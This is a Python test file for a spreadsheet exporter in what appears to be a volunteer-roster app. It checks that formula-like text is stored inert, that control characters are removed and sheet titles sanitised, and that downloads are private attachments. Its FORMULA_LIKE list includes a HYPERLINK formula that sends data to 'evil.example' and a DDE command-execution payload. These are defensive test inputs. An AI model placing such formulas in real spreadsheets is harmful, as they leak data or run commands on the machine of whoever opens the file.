"""Issue 7 item 4: what SafeWorkbook writes is inert, and downloads are private."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from tests.factories import drain
from unionvol.xlsx import Column, SafeWorkbook, safe_value, xlsx_file_response

FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+86 139 0000 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
]


def written(rows: list[list[object]], columns: list[Column] | None = None) -> io.BytesIO:
    wb = SafeWorkbook()
    sheet = wb.add_sheet("测试", columns or [Column("值"), Column("号码", text=True)])
    for row in rows:
        sheet.row(row)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return buf


def cells(buf: io.BytesIO) -> list[tuple[object, str]]:
    ws = load_workbook(buf).worksheets[0]
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_looking_text_stays_text(text: str) -> None:
    result = cells(written([[text, text]]))
    assert result == [(text, "s"), (text, "s")]


def test_no_formula_anywhere_in_the_file() -> None:
    buf = written([[t, t] for t in FORMULA_LIKE])
    with zipfile.ZipFile(buf) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet


def test_control_characters_are_removed() -> None:
    result = cells(written([["张\x00三\x07\x1b", "1101\x0b0119"]]))
    assert result == [("张三", "s"), ("11010119", "s")]
    assert safe_value("a\x01b\x1fc\td\ne") == "abc\td\ne"  # tab and newline are legal


def test_numbers_and_dates_stay_typed_and_identifiers_are_text() -> None:
    rows = cells(
        written(
            [[3, 210202199001010013], [Decimal("2.5"), "0411"], [date(2026, 3, 1), None]],
            [Column("值"), Column("号码", text=True)],
        )
    )
    assert rows[0] == (3, "n")
    assert rows[1] == ("210202199001010013", "s")  # never a float that loses digits
    assert rows[2] == (2.5, "n")
    assert rows[3] == ("0411", "s")
    assert rows[4][0] == datetime(2026, 3, 1)  # a real date cell, shown yyyy-mm-dd


def test_sheet_title_is_sanitised() -> None:
    wb = SafeWorkbook()
    wb.add_sheet("=[bad]:*?/\\名称\x00" + "长" * 40, [Column("a")])
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    title = load_workbook(buf).sheetnames[0]
    assert len(title) <= 31
    assert not set(title) & set("[]:*?/\\\x00")


# (db: closing a response sends request_finished, which tidies database connections.)
def test_download_response_is_a_private_attachment_with_a_chinese_name(db: Any) -> None:
    wb = SafeWorkbook()
    wb.add_sheet("名册", [Column("姓名")]).row(["张三"])
    response = wb.response("志愿者名册（2026年）")
    disposition = response["Content-Disposition"]
    assert disposition == "attachment; filename*=utf-8''" + quote("志愿者名册（2026年）.xlsx")
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    body = drain(response)
    assert load_workbook(io.BytesIO(body)).worksheets[0]["A1"].value == "张三"


def test_ascii_name_is_quoted(db: Any) -> None:
    response = xlsx_file_response(io.BytesIO(b"x"), 'roster "2026"')
    assert response["Content-Disposition"] == 'attachment; filename="roster \\"2026\\".xlsx"'
    assert response["Cache-Control"] == "no-store"
    drain(response)
